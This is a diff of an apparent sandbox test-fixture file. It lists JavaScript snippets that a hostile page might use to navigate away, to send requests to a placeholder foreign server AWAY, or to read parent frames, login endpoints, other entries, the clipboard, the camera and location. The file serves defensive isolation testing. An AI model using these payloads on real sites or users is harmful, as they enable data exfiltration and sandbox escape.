@@ -1,6 +1,6 @@
-/** What a hostile page tries. Each is a piece of JavaScript; `AWAY` is the address of a server that counts. */
+/** The attempts of a hostile page, as JavaScript. `AWAY` is the URL of a foreign server that records requests. */
 
-/** Ways to lead the frame, the viewer or a new window elsewhere. Each gets a page of its own. */
+/** Attempts to navigate the frame, the viewer or a new window elsewhere. Each runs in a separate page. */
 export const LEAVE: Readonly<Record<string, string>> = {
   location: `location = 'AWAY/location'`,
   replace: `location.replace('AWAY/replace')`,
@@ -8,7 +8,10 @@ export const LEAVE: Readonly<Record<string, string>> = {
   form: `document.body.insertAdjacentHTML('beforeend', '<form id=f method=post action="AWAY/form"></form>'); f.submit()`,
   link: `document.body.insertAdjacentHTML('beforeend', '<a id=a href="AWAY/link">x</a>'); a.click()`,
   'link, saved': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="AWAY/saved" download>x</a>'); a.click()`,
-  'link, above': `for (const target of ['_top', '_parent', '_blank', 'other']) { document.body.insertAdjacentHTML('beforeend', '<a href="AWAY/above" target="' + target + '">x</a>'); document.body.lastChild.click() }`,
+  'link, above':
+    `for (const target of ['_top', '_parent', '_blank', ` +
+    `'other']) { document.body.insertAdjacentHTML('beforeend', '<a href="AWAY/above" target="' + target + '">` +
+    `x</a>'); document.body.lastChild.click() }`,
   'link, ping': `document.body.insertAdjacentHTML('beforeend', '<a id=a href="#x" ping="AWAY/ping">x</a>'); a.click()`,
   top: `try { top.location = 'AWAY/top' } catch {} parent.location.replace('AWAY/parent')`,
   open: `open('AWAY/open'); open('AWAY/open', '_top')`,
@@ -18,7 +21,7 @@ export const LEAVE: Readonly<Record<string, string>> = {
   'viewer, scroll': `location = '/s/'`,
 };
 
-/** Ways to speak to another server without leaving. All in one page. */
+/** Attempts to send data to another server without navigating. All run in one page. */
 export const SPEAK: readonly string[] = [
   `fetch('AWAY/fetch')`,
   `fetch('AWAY/simple', { mode: 'no-cors', keepalive: true })`,
@@ -43,24 +46,37 @@ export const SPEAK: readonly string[] = [
     'manifest',
     'compression-dictionary',
   ].map((rel) => `document.head.insertAdjacentHTML('beforeend', '<link rel="${rel}" as=image href="AWAY/${rel}">')`),
-  `const s = document.createElement('script'); s.type = 'speculationrules'; s.textContent = JSON.stringify(Object.fromEntries(['prefetch', 'prerender'].map((kind) => [kind, [{ urls: ['AWAY/rules'], eagerness: 'immediate' }]]))); document.head.append(s)`,
-  `document.head.insertAdjacentHTML('beforeend', '<style>@import "AWAY/a.css"; @font-face { font-family: q; src: url(AWAY/font) } body { font-family: q; background: url(AWAY/background) }</style>')`,
-  `document.body.insertAdjacentHTML('beforeend', '<video src="AWAY/video" poster="AWAY/poster" autoplay muted></video><audio src="AWAY/audio"></audio><object data="AWAY/object"></object><embed src="AWAY/embed"><iframe src="AWAY/frame"></iframe><svg><image href="AWAY/svg"/><use href="AWAY/use#x"/></svg>')`,
-  `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<img src=AWAY/srcdoc><script>fetch(&quot;AWAY/s&quot;);location=&quot;AWAY/srcdoc&quot;</' + 'script>"></iframe>')`,
+  `const s = document.createElement('script'); s.type = 'speculationrules'; ` +
+    `s.textContent = JSON.stringify(Object.fromEntries(['prefetch', 'prerender'].map((kind) => ` +
+    `[kind, [{ urls: ['AWAY/rules'], eagerness: 'immediate' }]]))); document.head.append(s)`,
+  `document.head.insertAdjacentHTML('beforeend', '<style>@import "AWAY/a.css"; @font-face { font-family: q; ` +
+    `src: url(AWAY/font) } body { font-family: q; background: url(AWAY/background) }</style>')`,
+  `document.body.insertAdjacentHTML('beforeend', ` +
+    `'<video src="AWAY/video" poster="AWAY/poster" autoplay muted></video><audio src="AWAY/audio"></audio>` +
+    '<object data="AWAY/object"></object><embed src="AWAY/embed"><iframe src="AWAY/frame"></iframe><svg>' +
+    `<image href="AWAY/svg"/><use href="AWAY/use#x"/></svg>')`,
+  `document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="<img src=AWAY/srcdoc><script>fetch(&quot;` +
+    `AWAY/s&quot;);location=&quot;AWAY/srcdoc&quot;</' + 'script>"></iframe>')`,
   `document.body.insertAdjacentHTML('beforeend', '<iframe src="data:text/html,<img src=AWAY/dataframe>"></iframe>')`,
-  `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img src="AWAY/blobframe">'], { type: 'text/html' })); document.body.append(f)`,
+  `const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob(['<img ` +
+    `src="AWAY/blobframe">'], { type: 'text/html' })); document.body.append(f)`,
   `const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = 'AWAY/blank'`,
   `new Worker(URL.createObjectURL(new Blob(['fetch("AWAY/worker");importScripts("AWAY/imported")'])))`,
   `CSS.paintWorklet.addModule('AWAY/worklet')`,
-  `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }, { urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => p.setLocalDescription(offer))`,
+  `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:HOST' }, { urls: 'turn:HOST?transport=tcp', ` +
+    `username: 'a', credential: 'b' }] }); p.createDataChannel('x'); p.createOffer().then((offer) => ` +
+    'p.setLocalDescription(offer))',
   `navigator.credentials.get({ identity: { providers: [{ configURL: 'AWAY/credentials', clientId: 'x' }] } })`,
-  `new PaymentRequest([{ supportedMethods: 'AWAY/payment' }], { total: { label: 'a', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
-  `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=Content-Security-Policy content="img-src x:; report-uri AWAY/report">'); new Image().src = 'x'`,
+  `new PaymentRequest([{ supportedMethods: 'AWAY/payment' }], { total: { label: 'a', ` +
+    `amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
+  `document.head.insertAdjacentHTML('beforeend', ` +
+    `'<meta http-equiv=Content-Security-Policy content="img-src x:; report-uri AWAY/report">'); ` +
+    `new Image().src = 'x'`,
 ];
 
 /**
- * Ways to what is not the page's own: expressions whose value, if they have one, is written into the page. `OTHER` is
- * where another entry's files would be under their own capability, `OWN` where they would be under this page's.
+ * Attempts to access data of others: expressions whose value, if any, is written into the page. `OTHER` is the URL of
+ * another entry's files with their own capability, `OWN` that with the capability of this page.
  */
 export const REACH: Readonly<Record<string, string>> = {
   'the document above': `parent.document.body.innerHTML`,
@@ -74,20 +90,30 @@ export const REACH: Readonly<Record<string, string>> = {
   'the list of scrolls, blindly': `fetch('/api/scrolls', { mode: 'no-cors' }).then((r) => r.type)`,
   login: `fetch('/api/login', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' }).then((r) => r.text())`,
   'login as text': `fetch('/api/login', { method: 'POST', mode: 'no-cors', body: '{}' }).then((r) => r.type)`,
-  'login by a form': `new Promise((yes, no) => { const f = document.createElement('form'); f.method = 'post'; f.action = '/api/login'; document.body.append(f); f.submit(); setTimeout(no, 200) })`,
+  'login by a form':
+    `new Promise((yes, no) => { const f = document.createElement('form'); f.method = 'post'; ` +
+    `f.action = '/api/login'; document.body.append(f); f.submit(); setTimeout(no, 200) })`,
   feed: `new Promise((yes, no) => { const w = new WebSocket('ws://' + location.host + '/api/feed'); w.onopen = yes; w.onerror = no })`,
   'another entry': `fetch('OTHER').then((r) => r.text())`,
   'another entry, blindly': `fetch('OTHER', { mode: 'no-cors' }).then((r) => r.type)`,
   'another entry as picture': `new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = 'OTHER' })`,
-  'another entry as script': `new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; s.src = 'OTHER'; document.head.append(s) })`,
-  'another entry as style': `new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = yes; l.onerror = no; l.href = 'OTHER'; document.head.append(l) })`,
+  'another entry as script':
+    `new Promise((yes, no) => { const s = document.createElement('script'); s.onload = yes; s.onerror = no; ` +
+    `s.src = 'OTHER'; document.head.append(s) })`,
+  'another entry as style':
+    `new Promise((yes, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; ` +
+    `l.onload = yes; l.onerror = no; l.href = 'OTHER'; document.head.append(l) })`,
   'another entry as module': `import('OTHER')`,
   'another entry, as ours': `fetch('OWN').then((r) => r.ok ? r.text() : Promise.reject())`,
   'the journal': `fetch(new URL('scroll.ndjson', location)).then((r) => r.ok ? r.text() : Promise.reject())`,
   'a service worker': `navigator.serviceWorker.register(location.href)`,
   'a shared worker': `new SharedWorker(location.href).port.constructor.name`,
-  'the frames beside': `[...Array(parent.length).keys()].map((i) => { try { return parent[i] === window ? '' : parent[i].document.body.innerText } catch { return '' } }).join('') || Promise.reject()`,
-  'a frame within': `(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentWindow.localStorage.length })()`,
+  'the frames beside':
+    `[...Array(parent.length).keys()].map((i) => { try { return parent[i] === window ? '' : ` +
+    `parent[i].document.body.innerText } catch { return '' } }).join('') || Promise.reject()`,
+  'a frame within':
+    `(() => { const f = document.createElement('iframe'); document.body.append(f); ` +
+    'return f.contentWindow.localStorage.length })()',
   clipboard: `navigator.clipboard.readText()`,
   camera: `navigator.mediaDevices.getUserMedia({ video: true })`,
   position: `new Promise((yes, no) => navigator.geolocation.getCurrentPosition(yes, no))`,
